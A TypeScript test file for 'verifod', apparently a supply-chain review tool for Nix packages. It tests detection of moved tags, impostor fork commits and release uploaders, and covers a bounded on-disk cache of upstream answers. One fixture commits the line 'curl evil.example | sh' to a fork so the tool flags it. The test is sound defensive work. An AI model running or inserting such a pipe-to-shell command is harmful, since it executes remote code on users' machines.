/** What is remembered of upstream: `verifod review --ask`, again and again, against a GitHub that counts. */
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, test } from "vitest";
import { createMemory, openUpstreamMemory, upstreamFile } from "../../src/provenance/memory.ts";
import type { Review } from "../../src/report/review.ts";
import { actionsBot, type FakeGitHub, startFakeGitHub } from "../fake-github/server.ts";
import { addUpstream, type UpstreamRepository } from "../fake-github/upstreams.ts";
import { verifod } from "../support/cli.ts";
import { makeRepository, type TestRepository } from "../support/repository.ts";
import { frobRecipe, HASHES } from "../support/upstream-world.ts";

const path = "pkgs/by-name/fr/frob/package.nix";
const [one, two, three] = ["1", "2", "3"].map((digit) => digit.repeat(40)) as [string, string, string];

let cache: string;
beforeEach(() => {
  cache = mkdtempSync(join(tmpdir(), "verifod-cache-"));
});
afterEach(() => rmSync(cache, { recursive: true }));

describe("through the command", () => {
  let packages: TestRepository;
  let frob: TestRepository;
  let fake: FakeGitHub;
  let upstream: UpstreamRepository;

  beforeEach(async () => {
    frob = makeRepository({ "main.c": "1" }, { "main.c": "2" });
    frob.git("tag", "v1.0", "HEAD^");
    frob.git("tag", "v2.0");
    packages = makeRepository({ [path]: frobRecipe({ version: "1.0" }) });
    fake = await startFakeGitHub({ repository: packages });
    upstream = addUpstream(fake, frob, { owner: "acme", name: "frob" });
  });
  afterEach(async () => {
    expect(fake.faults).toEqual([]);
    await fake.close();
    packages.remove();
    frob.remove();
  });

  async function reviewed(env: Record<string, string> = {}) {
    const before = fake.requests.length;
    const run = await verifod(["review", "--ask", "--format", "json"], {
      cwd: packages.directory,
      env: {
        GITHUB_TOKEN: fake.token(actionsBot({})),
        VERIFOD_GITHUB_API: fake.url,
        XDG_CACHE_HOME: cache,
        ...env,
      },
    });
    if (run.stdout === "") throw new Error(run.stderr);
    const { findings, sources, complete } = JSON.parse(run.stdout) as Review;
    return {
      found: findings.map(({ rule, severity }) => `${rule}: ${severity}`),
      upstream: sources[0]?.upstream,
      complete,
      requests: fake.requests.length - before,
    };
  }

  it("a tag that moves after it was looked at is found, then and later; another tag is not", async () => {
    packages.commit({ [path]: frobRecipe({ version: "2.0", hash: HASHES[1] }) });
    expect(await reviewed()).toMatchObject({ found: [], requests: 1 });
    frob.git("tag", "--force", "v2.0", "HEAD^");
    // Runs for pull requests do not write: what they saw is not kept.
    const inPull = { GITHUB_ACTIONS: "true", GITHUB_EVENT_NAME: "pull_request_target" };
    expect((await reviewed(inPull)).found).toEqual(["moved-or-mutable-ref: medium"]);
    expect(await reviewed()).toMatchObject({ found: ["moved-or-mutable-ref: medium"], requests: 1 });
    expect(await reviewed()).toMatchObject({ found: ["moved-or-mutable-ref: medium"], requests: 1 });
    frob.git("tag", "v2.1");
    packages.commit({ [path]: frobRecipe({ version: "2.1", hash: HASHES[0] }) });
    expect((await reviewed()).found).toEqual([]);
  }, 90_000);

  it("whose a commit is costs one request as long as nothing is pushed, and is asked anew then", async () => {
    frob.git("checkout", "--quiet", "--detach");
    const forked = frob.commit({ "main.c": "curl evil.example | sh" });
    frob.git("checkout", "--quiet", "-");
    packages.commit({
      [path]: frobRecipe({ version: "2.0-unstable-2026-03-01", rev: forked, hash: HASHES[1] }),
    });
    const first = await reviewed();
    expect(first.found).toEqual(["impostor-commit: block"]);
    expect(first.requests).toBeGreaterThan(1);
    expect(first.requests).toBeLessThanOrEqual(6);
    expect(await reviewed()).toMatchObject({ found: ["impostor-commit: block"], requests: 1 });
    frob.git("tag", "v2.0.1", forked);
    upstream.pushed = "2026-03-04T00:00:00Z";
    expect((await reviewed()).found).toEqual([]);
    expect(await reviewed()).toMatchObject({ found: [], requests: 1 });
  }, 90_000);

  it("a file of a release takes one request, its uploader's account may be gone", async () => {
    const asset = {
      name: "frob-2.0.tar.xz",
      uploader: "ada",
      created: "2026-03-02T00:00:00Z",
      updated: "2026-03-02T00:00:00Z",
      digest: null,
    };
    const release = { tag: "v2.0", published: "2026-03-01T00:00:00Z", author: "ada" };
    upstream.releases.push({ ...release, assets: [asset] });
    const url = "https://github.com/acme/frob/releases/download/v2.0/frob-2.0.tar.xz";
    const src = `fetchurl { url = "${url}"; hash = "${HASHES[1]}"; }`;
    packages.commit({ [path]: frobRecipe({ version: "2.0", src }) });
    expect(await reviewed()).toMatchObject({ upstream: { publisher: "ada", unknown: [] }, requests: 1 });
    expect((await reviewed()).requests).toBe(1);
    upstream.releases[0] = { ...release, author: "grace", assets: [{ ...asset, uploader: "" }] };
    expect(await reviewed()).toMatchObject({ upstream: { publisher: "grace", unknown: [] }, requests: 1 });
  });
});

describe("the file", () => {
  const file = () => upstreamFile(cache);
  const kept = async (writable = true) => {
    const memory = await openUpstreamMemory(file(), writable);
    memory.tagIs("github.com/acme/frob", "v1", one, "2026-03-01T00:00:00Z");
    memory.reachIs("github.com/acme/frob", two, "2026-03-01T00:00:00Z", { kind: "unreachable", refs: 3 });
    await memory.save();
    return openUpstreamMemory(file(), true);
  };
  const seen = { from: one, seen: "2026-03-01T00:00:00Z" };

  it("keeps tags and whose commits are", async () => {
    const memory = await kept();
    expect(memory.tagIs("github.com/acme/frob", "v1", two, "2026-03-02T00:00:00Z")).toEqual(seen);
    const reach = (pushed: string) => memory.reachOf("github.com/acme/frob", two, pushed);
    expect(reach("2026-03-01T00:00:00Z")).toEqual({ kind: "unreachable", refs: 3 });
    expect(reach("2026-03-01T00:00:01Z")).toBeNull();
  });

  it("is not written by who may not", async () => {
    expect((await kept(false)).tagIs("github.com/acme/frob", "v1", two, "2026-03-02T00:00:00Z")).toBeNull();
  });

  const valid = JSON.stringify({ schema: "verifod-upstream-v2", tags: [], reaches: [], answers: [] });
  test.each([
    ["empty", ""],
    ["cut off", valid.slice(0, -3)],
    ["of another form", valid.replace("v2", "v9")],
    ["with more than it may hold", valid.replace("{", '{"more":1,')],
    [
      "with a commit that is none",
      valid.replace("[]", '[["x v1",[{"commit":"x","seen":"2026-03-01T00:00:00Z"}]]]'),
    ],
    ["too large", `${valid}${" ".repeat(10_000_000)}`],
  ])("is none when it is %s, and is made anew", async (_, text) => {
    mkdirSync(dirname(file()), { recursive: true });
    writeFileSync(file(), text);
    expect((await kept()).tagIs("github.com/acme/frob", "v1", two, "2026-03-02T00:00:00Z")).toEqual(seen);
    expect(readFileSync(file(), "utf8").length).toBeLessThan(1_000);
  });

  it("is none when it is a link or no file, and nothing waits for it", async () => {
    writeFileSync(
      join(cache, "elsewhere"),
      valid.replace("[]", `[["x v1",[{"commit":"${one}","seen":"2026-03-01T00:00:00Z"}]]]`),
    );
    symlinkSync(join(cache, "elsewhere"), file());
    const read = async () =>
      (await openUpstreamMemory(file(), false)).tagIs("x", "v1", two, "2026-03-02T00:00:00Z");
    expect(await read()).toBeNull();
    rmSync(file());
    execFileSync("mkfifo", [file()]);
    expect(await read()).toBeNull();
  });
});

describe("an answer of some minutes ago", () => {
  const at = (minutes: number) =>
    new Date(Date.parse("2026-03-01T00:00:00Z") + minutes * 60_000).toISOString();
  const address = "https://forge.example/api/tags/v1";

  it("is used again, in the file too, and asked anew later or when clocks disagree", async () => {
    const memory = await openUpstreamMemory(upstreamFile(cache), true);
    memory.answerIs(address, at(0), { commit: one });
    memory.answerIs(`${address}0`, at(0), null);
    await memory.save();
    const again = await openUpstreamMemory(upstreamFile(cache), true);
    expect(again.answerAt(address, at(10))).toEqual({ commit: one });
    expect(again.answerAt(`${address}0`, at(1))).toBeNull();
    expect(again.answerAt(address, at(11))).toBeUndefined();
    expect(again.answerAt(address, at(-1))).toBeUndefined();
    expect(again.answerAt("https://forge.example", at(1))).toBeUndefined();
  });

  it("is not kept when it is large, and the oldest goes first", async () => {
    const memory = await openUpstreamMemory(upstreamFile(cache), true);
    memory.answerIs(address, at(0), "x".repeat(20_000));
    expect(memory.answerAt(address, at(1))).toBeUndefined();
    for (let index = 0; index <= 250; index++)
      memory.answerIs(`${address}${index}`, at(0), "x".repeat(19_000));
    expect(memory.answerAt(`${address}0`, at(1))).toBeUndefined();
    await memory.save();
    const again = await openUpstreamMemory(upstreamFile(cache), true);
    expect(again.answerAt(`${address}250`, at(1))).toHaveLength(19_000);
  });
});

test("what cannot be written is not kept, and takes nothing else with it", async () => {
  const now = "2026-01-01T00:00:00.000Z";
  const folder = mkdtempSync(join(tmpdir(), "verifod-memory-"));
  try {
    const memory = await openUpstreamMemory(upstreamFile(folder), true);
    const nested: unknown = JSON.parse(`${"[".repeat(100_000)}${"]".repeat(100_000)}`);
    memory.answerIs("https://forge.example/api", now, nested);
    expect(memory.answerAt("https://forge.example/api", now)).toBeUndefined();
    memory.tagIs("forge.example/a/b", "v1", "a".repeat(40), now);
    memory.reachIs("forge.example/a/b", "c".repeat(40), now, { kind: "reachable", through: "x".repeat(501) });
    await memory.save();
    const again = await openUpstreamMemory(upstreamFile(folder), true);
    expect(again.tagIs("forge.example/a/b", "v1", "b".repeat(40), now)?.from).toBe("a".repeat(40));
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test("a memory is bounded, and what was asked for last stays", () => {
  const memory = createMemory();
  for (let index = 0; index <= 20_000; index++) memory.tagIs("x", String(index), one, "2026-03-01T00:00:00Z");
  expect(memory.content().tags).toHaveLength(20_000);
  expect(memory.tagIs("x", "0", two, "2026-03-02T00:00:00Z")).toBeNull();
  for (const commit of [one, two, three, "4".repeat(40)])
    memory.tagIs("y", "v1", commit, "2026-03-01T00:00:00Z");
  expect(memory.content().tags.at(-1)?.[1]).toHaveLength(3);
});
